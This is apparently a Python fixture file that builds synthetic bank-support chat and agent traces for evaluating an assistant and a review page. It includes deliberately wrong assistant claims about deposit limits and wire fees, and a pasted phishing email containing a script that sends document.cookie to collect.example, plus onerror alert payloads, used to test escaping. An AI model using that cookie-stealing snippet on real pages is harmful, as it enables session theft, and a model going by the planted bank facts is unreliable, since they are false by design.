"""Special traces: two long ones (the review page must cope with 100+ messages) and pasted HTML (shown as text)."""

from __future__ import annotations

from datetime import timedelta

from demo.bank import FEES, PHONES, day, money
from demo.core import HALLUCINATION, Chat, Ctx, Draft, bad, ok

PAYERS = [
    "Lakeside Catering Co.", "R. Alvarez", "Brightwater Events", "St. Brendan's Parish", "Kim & Sons Hardware",
    "T. Okafor", "Greenleaf Property Mgmt", "Harborview Yacht Club", "Dana Whitcomb", "Seaside Dental Group",
    "Jun Park", "Old Mill Brewing", "Coastal Realty Partners", "Beacon Hill Montessori", "L. Fitzgerald",
    "Marina Bay Rotary Club", "Quarry Street Gallery", "P. Nguyen", "Driftwood Weddings", "Saltmarsh Golf Club",
    "Northgate Library Friends",
]  # fmt: skip
DEPOSIT_ERRORS = [
    ("E-214", "the image was unreadable", "Put the check on a dark, flat surface in good light, all corners in frame."),
    ("E-309", "the endorsement is missing", "Sign the back and add 'For mobile deposit at Harbor Bank only'."),
    (
        "E-118",
        "the amount you typed doesn't match the check",
        "Re-enter the amount exactly as written, cents included.",
    ),
    (
        "E-402",
        "the check looks like one already deposited",
        "Don't deposit it twice; if it's new, a specialist can look.",
    ),
]


def long_chat_mobile_deposits(c: Ctx) -> Draft:
    """A caterer deposits a stack of client checks one by one: 100+ messages, one slip deep in the conversation."""
    chat = Chat()
    phone = c.pick(PHONES)
    chat.user(
        f"Hi. I run a small catering business and have a stack of client checks to deposit with the app on my "
        f"{phone}. Can you stay with me while I do them? The app keeps giving me errors."
    )
    chat.assistant(
        "Of course. Mobile deposits are limited to $5,000 per business day and $20,000 per rolling 30 days, so if "
        "the total is higher we may need to split them. Tell me about the first check when you're ready."
    )
    total = 0.0
    slip_at = 0
    for index, payer in enumerate(PAYERS, start=1):
        amount = round(c.rng.uniform(90, 520), 2)
        chat.user(c.pick([f"Check {index}: {payer}, {money(amount)}.", f"Next one is from {payer}, {money(amount)}."]))
        if total + amount > FEES["mobile_deposit_daily"]:
            if not slip_at:
                slip_at = len(chat.messages)
                chat.assistant(
                    f"That one would take you over today's $5,000 limit ({money(total)} so far). The limit resets at "
                    "midnight your local time, so you can deposit it after that."
                )
            else:
                chat.assistant(
                    f"This one also needs to wait for the next business day; you're at {money(total)} today."
                )
            chat.user(c.pick(["ok I'll keep it for tomorrow", "fine, setting it aside", "ugh ok"]))
            chat.assistant("Noted. Set it aside with the others for tomorrow.")
            continue
        code, meaning, fix = DEPOSIT_ERRORS[(index + c.rng.randrange(0, 3)) % len(DEPOSIT_ERRORS)]
        if c.rng.random() < 0.55:
            chat.assistant("Go ahead: front, then back, then confirm the amount.")
            chat.user(f"Error {code}.")
            chat.assistant(f"{code} means {meaning}. {fix}")
            chat.user(c.pick(["Trying again.", "ok one sec", "Retaking the photos now."]))
            if code == "E-402":
                chat.assistant(
                    "If it still says E-402, stop there and I'll connect you to a specialist for this check."
                )
                chat.user("It went through this time, weird.")
            else:
                chat.assistant("Let me know what it says.")
                chat.user(c.pick(["It worked.", "Accepted!", "Went through."]))
        else:
            chat.assistant("Go ahead: front, then back, then confirm the amount.")
            chat.user(c.pick(["Accepted.", "That one went through first try.", "Done, no error."]))
        total += amount
        chat.assistant(
            c.pick(
                [
                    f"Great. That's {money(total)} deposited today.",
                    f"Good. Running total for today: {money(total)}.",
                    f"Got it: {money(total)} so far today.",
                ]
            )
        )
        chat.user(c.pick(["When will this one be available?", "next", "ok", "Can my staff see these deposits too?"]))
        last = chat.messages[-1]["content"]
        if last.startswith("When"):
            chat.assistant(
                "If you confirmed it before 9:00 p.m. ET, the first $225 is available the next business day and the "
                "rest by the second business day, unless we place an extended hold."
            )
        elif last.startswith("Can my staff"):
            chat.assistant(
                "I can't see how your account access is set up from here. A specialist can help with that after "
                "we're done."
            )
        else:
            chat.assistant("Ready for the next one.")
    chat.user("That's all of them. Thanks for sticking with me.")
    chat.assistant(
        f"You're welcome. Today you deposited {money(total)}. Keep the checks you set aside for the next business "
        "day, and keep all deposited checks for 14 days in case we need them."
    )
    return Draft(
        "chat",
        messages=chat.messages,
        grounded=bad(
            f"Long and mostly accurate, but at message {slip_at + 1} it says the limit 'resets at midnight your local "
            "time'; the policy is per business day with a 9:00 p.m. ET cutoff. 'Keep checks for 14 days' at the "
            "end is not in any source either."
        ),
        resolves=ok("Patient, keeps the running total right and handles the limit; the customer got everything done."),
        note="Long session. One wrong claim about when the limit resets, buried deep; judges must read it all.",
        modes=[HALLUCINATION],
    )


STATEMENT_LINES = [
    ("SQ *BEAN ROASTERS", 142.50, "supplies", "a Square payment to Bean Roasters, likely your coffee supplier"),
    ("TST* PINECONE BOOKS", 38.17, "retail", "a Toast card payment at Pinecone Books"),
    ("AMZN Mktp US*2K4J81", 89.99, "online", "an Amazon Marketplace order"),
    ("PAYPAL *SUPPLYCO", 412.00, "supplies", "a PayPal payment to SupplyCo"),
    ("ADP PAYROLL FEES", 96.40, "payroll", "ADP's fee for running your payroll"),
    ("IRS USATAXPYMT", 1850.00, "tax", "an electronic tax payment to the IRS"),
    ("CITY OF NORFOLK WATER", 74.22, "utilities", "your water bill"),
    ("HARBOR BANK WIRE FEE", 45.00, "bank fee", "the fee for an outgoing international wire"),
    ("OVERDRAFT FEE", 32.00, "bank fee", "an overdraft fee for an item paid while the balance was negative"),
    ("INTL TXN FEE", 11.64, "bank fee", "the 3% foreign transaction fee on a purchase in a foreign currency"),
    ("TIDEWATER UTILITIES", 233.80, "utilities", "your gas and electric bill"),
    ("QuickFuel #2231", 61.05, "fuel", "fuel at QuickFuel"),
    ("METRO PARKING 44", 18.00, "parking", "a parking garage payment"),
    ("GUSTO*TAX", 1320.55, "payroll", "payroll taxes collected by Gusto"),
    ("SYSCO NORFOLK", 2288.31, "supplies", "a Sysco food-service order"),
    ("ORCHARD HOME GOODS", 129.95, "equipment", "a purchase at Orchard Home Goods"),
    ("COMCAST BUSINESS", 189.00, "utilities", "internet service"),
    ("STATE FARM INS", 310.00, "insurance", "an insurance premium"),
    ("ATM WITHDRAWAL FEE", 3.00, "bank fee", "Harbor's $3.00 fee for using another bank's ATM"),
    ("SQUARE INC FEES", 57.28, "processing", "Square's card-processing fees"),
    ("COPPERPOT KITCHEN RENT", 2400.00, "rent", "your kitchen rent (ACH)"),
    ("WASTE PRO USA", 88.00, "utilities", "trash collection"),
    ("CINTAS CORP", 64.75, "uniforms", "uniform and linen service from Cintas"),
    ("STOP PAYMENT FEE", 30.00, "bank fee", "the fee for a stop payment on a check"),
    ("ZELLE TO M GARCIA", 250.00, "transfer", "a transfer you sent to M. Garcia"),
    ("VENMO CASHOUT", 175.40, "transfer", "money moved in from your Venmo balance"),
    ("GODADDY.COM", 21.99, "software", "a domain or hosting renewal at GoDaddy"),
    ("QUICKBOOKS ONLINE", 80.00, "software", "your QuickBooks subscription"),
    ("RESTAURANT DEPOT", 512.66, "supplies", "a Restaurant Depot order"),
    ("FEDEX 78841", 42.10, "shipping", "a FedEx shipment"),
]  # fmt: skip


def long_agent_reconcile(c: Ctx) -> Draft:
    """A restaurant owner reconciles a month of statement lines, one tool call each: 120+ messages."""
    acct = f"acct_chk_{c.rng.randrange(1000, 9999)}"
    chat = Chat()
    chat.user(
        "I'm doing my books for last month and my bookkeeper quit. Can you go through the charges I don't recognize "
        "one at a time? I'll give you amount and date."
    )
    chat.assistant("Sure. Give me the first one and I'll look it up.")
    slip = ""
    for index, (descriptor, amount, category, meaning) in enumerate(STATEMENT_LINES):
        when = c.now - timedelta(days=35 - index)
        chat.user(
            c.pick(
                [
                    f"{money(amount)} on {day(when)}?",
                    f"what's the {money(amount)} one from {day(when)}",
                    f"Next: {day(when)}, {money(amount)}.",
                ]
            )
        )
        tx_id = f"tx_{c.rng.randrange(10**6, 10**7)}"
        chat.call(
            "search_transactions",
            {"account_id": acct, "amount": -amount, "date": when.date().isoformat()},
            {"matches": [{"id": tx_id, "descriptor": descriptor, "amount": -amount, "category": category}]},
        )
        if descriptor == "HARBOR BANK WIRE FEE":
            # The one mistake in this trace: the $45 fee is for an outgoing international wire, not an incoming one.
            text = "That's the fee for the incoming wire you received that day ($45)."
            slip = f"{money(amount)} {descriptor}"
        else:
            text = c.pick(
                [
                    f"That's {meaning} ({descriptor}).",
                    f"{descriptor}: {meaning}. Category: {category}.",
                    f"It shows as {descriptor}, which is {meaning}.",
                ]
            )
        chat.assistant(text)
    chat.user("That's everything. You saved my weekend.")
    chat.assistant("Glad to help. You can export the month as CSV from the app under Activity > Export.")
    return Draft(
        "agent",
        messages=chat.messages,
        grounded=bad(
            f"30 lookups, 29 explained from the tool results. The {slip} is called an incoming wire fee; incoming "
            "wires are $15 and $45 is the outgoing international fee."
        ),
        resolves=ok("Every line the customer asked about got an answer; the export tip is useful."),
        note="Very long agent trace. One wrong explanation (wire fee) among 30.",
        modes=[HALLUCINATION],
    )


def xss_phishing_paste(c: Ctx) -> Draft:
    """A customer pastes the raw HTML of a phishing email: the review page must show it as text, never run it."""
    chat = Chat()
    chat.user(
        "Is this email from you?? I copied the source:\n\n"
        "<html><body><p>Dear Harbor Bank customer, your account has been <b>suspended</b>.</p>\n"
        '<a href="http://harb0r-verify.example/login">Verify your identity</a>\n'
        "<script>fetch('https://collect.example/c?d='+document.cookie)</script>\n"
        "<img src=x onerror=\"alert('harbor')\">\n"
        "</body></html>"
    )
    chat.assistant(
        "No, that's not from Harbor Bank. The link goes to harb0r-verify.example (with a zero), not our site, and we "
        "never ask you to verify your identity through an email link. Please don't click it; forward the email to "
        "phish@harborbank.example and delete it. Did you enter any information on that page?"
    )
    chat.user("No, I didn't click anything.")
    chat.assistant("Good. Then there's nothing else you need to do. Thanks for checking with us.")
    return Draft(
        "chat",
        messages=chat.messages,
        channel="web",
        grounded=ok("Scam guidance matches the scams passage; the domain observation is from the pasted text."),
        resolves=ok("Identifies phishing, asks the right follow-up question before closing."),
        note="Pasted HTML with a <script> tag. Check the page shows it as text.",
    )


def xss_single(c: Ctx) -> Draft:
    question = (
        'Your website showed me this instead of my balance: <img src=x onerror="alert(document.domain)"> '
        "and then <script>alert(1)</script>. Is my account hacked?"
    )
    out = (
        "Seeing odd code on a page doesn't by itself mean your account was accessed. Please don't enter anything on "
        "that page. I'm connecting you with a specialist who can check recent sign-ins with you."
    )
    return Draft(
        "single",
        question,
        out,
        grounded=ok("No factual claims beyond general guidance."),
        resolves=ok("Possible security incident: hands off."),
        note="HTML in the input; good handoff.",
    )
